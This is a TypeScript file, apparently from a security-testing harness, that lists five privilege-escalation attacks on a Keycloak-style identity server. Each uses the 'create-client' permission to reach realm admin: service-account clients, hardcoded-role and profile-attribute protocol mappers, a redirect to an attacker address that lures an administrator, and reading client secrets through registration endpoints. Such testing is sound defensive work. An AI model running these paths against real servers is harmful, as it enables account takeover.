import { sendRequest, succeeded } from "../../measure/calls/send-request.ts";
import type { Attempt } from "../attempt.ts";
import { claimedRole, goOnWithClaimedRole } from "../claimed-role.ts";
import { attackersAddress, lureAdministrator } from "../lure-administrator.ts";
import { proveRealmAdmin } from "../prove-realm-admin.ts";
import { Refusal } from "../refusal.ts";
import { registerClient } from "../register-client.ts";
import { renameAccomplice } from "../rename-accomplice.ts";
import { requestAccessToken, signInAsClient } from "../request-token.ts";

const roles = ["create-client"];
const clientId = "registered";
const claimed = "resource_access.realm-management.roles";

/** What registering clients leads to. */
export const createClient: readonly Attempt[] = [
  {
    id: "register-client-with-service-account",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const secret = await registerClient(scene, { clientId, serviceAccountsEnabled: true });
      await proveRealmAdmin(scene, await signInAsClient(scene, clientId, secret));
    },
  },
  {
    id: "register-client-with-hardcoded-role",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const mapper = {
        ...{ name: "claim", protocol: "openid-connect" },
        protocolMapper: "oidc-hardcoded-role-mapper",
        config: { role: `realm-management.${claimedRole}` },
      };
      const secret = await registerClient(scene, {
        ...{ clientId, serviceAccountsEnabled: true, protocolMappers: [mapper] },
      });
      await goOnWithClaimedRole(scene, await signInAsClient(scene, clientId, secret));
    },
  },
  {
    // The registration policies allow mappers that copy what users may write into their profile.
    id: "register-client-that-claims-role-from-profile",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { accomplice } = scene;
      const mapper = {
        ...{ name: "claim", protocol: "openid-connect" },
        protocolMapper: "oidc-usermodel-attribute-mapper",
        config: {
          "user.attribute": "firstName",
          "claim.name": claimed,
          "jsonType.label": "String",
          multivalued: "true",
          "access.token.claim": "true",
        },
      };
      const secret = await registerClient(scene, {
        ...{ clientId, directAccessGrantsEnabled: true, protocolMappers: [mapper] },
      });
      await renameAccomplice(scene, claimedRole);
      const token = await requestAccessToken(scene, {
        ...{ grant_type: "password", client_id: clientId, client_secret: secret },
        ...{ username: accomplice.name, password: accomplice.secret },
      });
      await goOnWithClaimedRole(scene, token);
    },
  },
  {
    id: "lure-administrator-to-registered-client",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const redirectUri = attackersAddress;
      await registerClient(scene, { clientId, publicClient: true, redirectUris: [redirectUri] });
      await lureAdministrator(scene, { clientId, redirectUri });
    },
  },
  {
    id: "read-client-through-registration",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { baseUrl, realm, attacker, robot } = scene;
      const told: string[] = [];
      for (const kind of ["default", "openid-connect", "install"]) {
        const answer = await sendRequest(baseUrl, {
          method: "GET",
          path: `/realms/${realm}/clients-registrations/${kind}/${robot.name}`,
          token: attacker.caller.token,
        });
        if (!succeeded(answer)) told.push(`${kind}: ${answer.status} ${answer.text}`);
        else if (answer.text.includes(robot.secret)) {
          await proveRealmAdmin(scene, await signInAsClient(scene, robot.name, robot.secret));
          return;
        }
      }
      throw new Refusal(told.join("; "));
    },
  },
];
